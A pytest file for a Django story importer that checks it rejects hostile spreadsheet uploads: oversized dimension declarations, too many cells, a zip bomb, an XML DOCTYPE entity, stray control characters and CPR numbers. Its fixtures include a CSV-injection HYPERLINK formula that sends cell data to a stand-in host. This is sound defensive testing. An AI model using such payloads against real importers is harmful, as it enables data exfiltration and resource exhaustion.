"""The import under attack: sheets that declare more than they hold, zip bombs, control
characters deep in a file, CPR variants in any cell, and previews that outlive a day."""

import datetime
import io
import re
import time
import tracemalloc
import zipfile

import pytest
from django.utils import timezone

from stories import importer, services
from stories.models import PendingImport, Story
from tests.stories.test_import import HEADER, csv_bytes, row, upload, xlsx_bytes

pytestmark = pytest.mark.django_db


def _rewrite_sheet(raw, change):
    """The same XLSX with its first sheet's XML passed through `change`."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data.decode()).encode()
            target.writestr(info.filename, data)
    return out.getvalue()


def _with_declared_dimension(raw, ref):
    """The same XLSX with its first sheet declaring `ref` (what the attack file did)."""
    return _rewrite_sheet(
        raw, lambda text: re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>', text)
    )


def _parse_measured(raw):
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = importer.parse(raw)
    except importer.ImportFileError as exc:
        result = exc
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return result, seconds, peak


@pytest.mark.parametrize("ref", ["A1:XFD5000", "A1:XFD1048576"])
def test_a_sheet_declaring_a_huge_dimension_is_read_as_what_it_holds(ref):
    """Finding 2: 1.6 KB declaring A1:XFD5000 took 9 s and 741 MB (XFD1048576 never
    finished): openpyxl padded every row to the declared width."""
    raw = _with_declared_dimension(xlsx_bytes([row()]), ref)
    assert len(raw) < 10_000
    result, seconds, peak = _parse_measured(raw)
    assert seconds < 3, seconds
    assert peak < 30 * 1024 * 1024, peak
    assert result.total == 1 and result.rows[0]["title"] == "Jeg har fået et arbejde"


def _sheet_xml(rows_xml):
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows_xml}</sheetData></worksheet>"
    )


def _replace_sheet(raw, sheet_xml):
    return _rewrite_sheet(raw, lambda _text: sheet_xml)


def test_a_sheet_with_too_many_cells_is_refused_while_counting(monkeypatch):
    # A lower limit: the counting pass is the same at 300,000 cells, and measured under
    # tracemalloc that size took two minutes of the suite.
    monkeypatch.setattr(importer, "MAX_CELLS", 20_000)
    cells = "".join(f'<c r="A{n}" t="inlineStr"><is><t>x</t></is></c>' for n in range(1, 2))
    rows = "".join(f'<row r="{n}"><c r="A{n}"/></row>' for n in range(1, importer.MAX_CELLS))
    raw = _replace_sheet(xlsx_bytes([row()]), _sheet_xml(f'<row r="1">{cells}</row>' + rows))
    result, seconds, peak = _parse_measured(raw)
    assert isinstance(result, importer.ImportFileError)
    assert "for mange celler" in str(result)
    assert peak < 60 * 1024 * 1024, peak


def test_text_far_to_the_right_is_refused():
    far = '<row r="2"><c r="ZZ2" t="inlineStr"><is><t>x</t></is></c></row>'
    raw = _replace_sheet(xlsx_bytes([row()]), _sheet_xml(far))
    with pytest.raises(importer.ImportFileError, match="mere end 50 kolonner"):
        importer.parse(raw)


def test_more_rows_than_the_limit_are_refused_in_csv_and_xlsx(monkeypatch):
    monkeypatch.setattr(importer, "MAX_ROWS", 20)
    many = [row(titel=f"Fortælling {i}") for i in range(21)]
    for raw in (csv_bytes(many), xlsx_bytes(many)):
        with pytest.raises(importer.ImportFileError, match="mere end 20 rækker"):
            importer.parse(raw)
    assert importer.parse(csv_bytes(many[:20])).total == 20


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("[Content_Types].xml", "<Types/>")
        target.writestr("xl/worksheets/sheet1.xml", b" " * (50 * 1024 * 1024))
    raw = out.getvalue()
    assert len(raw) < 200_000
    result, seconds, peak = _parse_measured(raw)
    assert isinstance(result, importer.ImportFileError)
    assert "fylder for meget" in str(result)
    assert peak < 10 * 1024 * 1024 and seconds < 2


def test_an_xlsx_with_a_doctype_is_refused():
    evil = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheetData/></worksheet>"
    )
    raw = _replace_sheet(xlsx_bytes([row()]), evil)
    with pytest.raises(importer.ImportFileError, match="kan ikke læses"):
        importer.parse(raw)


# Control characters and CPR numbers in any cell ------------------------------------------


def test_a_control_character_after_the_first_4096_characters_is_a_problem_of_its_row():
    """Finding 1 (import side): control characters were looked for only in the first
    4,096 characters of a CSV file."""
    rows = [row(titel=f"Fortælling {i}", fortælling="Tekst " * 20) for i in range(60)]
    rows.append(row(titel='\x01=HYPERLINK("http://x/?d="&C2,"Åbn")'))
    raw = csv_bytes(rows)
    assert raw.index(b"\x01") > 4096
    result = importer.parse(raw)
    assert result.rows == []
    ((line, column, message),) = result.problems
    assert (line, column) == (62, "titel") and "styretegn" in message
    entry = next(e for e in result.preview if e["problems"])
    assert "\x01" not in entry["title"] and "HYPERLINK" not in entry["title"]


@pytest.mark.parametrize(
    "column", ["titel", "fortælling", "betydning", "runde", "domæner", "samtykke_analyse"]
)
@pytest.mark.parametrize("cpr", ["CPR-010190-1234", "010190–1234", "0101901234"])
def test_a_cpr_number_in_any_cell_is_a_problem_and_is_not_kept(column, cpr):
    raw = xlsx_bytes([row(**{column: f"Se {cpr} her"})])
    result = importer.parse(raw)
    assert result.rows == []
    columns = {c for _line, c, m in result.problems if "CPR-nummer" in m}
    assert len(columns) == 1
    assert cpr not in str(result.preview)


def test_cells_are_stored_in_nfc():
    result = importer.parse(csv_bytes([row(titel="Gl\u00e6de og cafe\u0301")]))
    assert result.rows[0]["title"] == "Glæde og café"


# Previews expire -----------------------------------------------------------------------


def test_a_preview_thirty_days_old_can_be_neither_shown_nor_confirmed(staff_client):
    """Finding 13: a staged import never expired."""
    response = upload(staff_client, csv_bytes([row()]))
    url = response["Location"]
    PendingImport.objects.update(created_at=timezone.now() - datetime.timedelta(days=30))
    assert staff_client.get(url).status_code == 404
    confirm = staff_client.post(url, {"action": "confirm"})
    assert confirm.status_code == 302
    assert not Story.objects.exists()
    token = url.rstrip("/").rsplit("/", 1)[-1]
    user = PendingImport.objects.get(token=token).user
    with pytest.raises(services.ImportGone):
        services.confirm_import(token, user=user)
    assert not Story.objects.exists()


def test_a_preview_of_today_is_still_shown(staff_client):
    response = upload(staff_client, csv_bytes([row()]))
    assert staff_client.get(response["Location"]).status_code == 200
    assert HEADER[0] == "titel"
